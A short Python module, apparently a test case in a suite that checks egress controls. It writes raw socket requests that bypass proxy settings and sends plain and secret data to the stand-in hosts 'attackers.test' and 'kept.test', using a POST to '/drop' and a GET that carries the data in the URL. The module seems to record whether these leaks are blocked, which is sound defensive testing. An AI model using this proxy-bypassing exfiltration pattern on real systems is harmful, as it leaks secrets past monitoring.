"""B02: write the request onto a socket by hand, past every library and every proxy variable."""

from hands import onto_socket


def send(hands, host, text):
    """Post it and ask for it, both byte by byte."""
    for method, url, body in (
        ("POST", f"https://{host}/drop", text),
        ("GET", f"http://{host}/{text.decode()}", b""),
    ):
        try:
            status, _ = onto_socket(method, url, body, {})
        except OSError:
            status = 0
        hands.statuses.append((f"{method} {host}", status))


def attack(hands):
    send(hands, "attackers.test", hands.plain().encode())


def twin(hands):
    send(hands, "kept.test", hands.secret().encode())
